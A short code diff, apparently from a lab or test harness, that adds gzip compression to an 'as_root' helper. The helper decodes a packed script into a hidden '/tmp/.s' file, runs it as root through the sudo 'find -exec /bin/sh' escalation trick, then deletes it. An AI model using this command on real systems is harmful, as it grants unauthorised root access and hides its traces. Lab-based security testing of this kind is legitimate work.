@@ -4,6 +4,7 @@
 One visit leaves it all behind and ends; a second one meets it; a stranger comes in by the back door.
 """
 import base64
+import gzip
 import os
 import subprocess
 import time
@@ -99,7 +100,7 @@ def as_root(skep, script):
     path = os.path.join(skep.state, "lineage.exp")
     with open(path, "w") as f:
         f.write(LOGIN)
-    command = (f"echo {packed(script)} | base64 -d >/tmp/.s; "
+    command = (f"echo {packed(gzip.compress(script.encode()))} | base64 -d | gunzip >/tmp/.s; "
                "sudo find /etc/hostname -exec /bin/sh /tmp/.s \\; ; rm -f /tmp/.s")
     return skep.lab("expect", path, APACHE, command, check=False).stdout
 
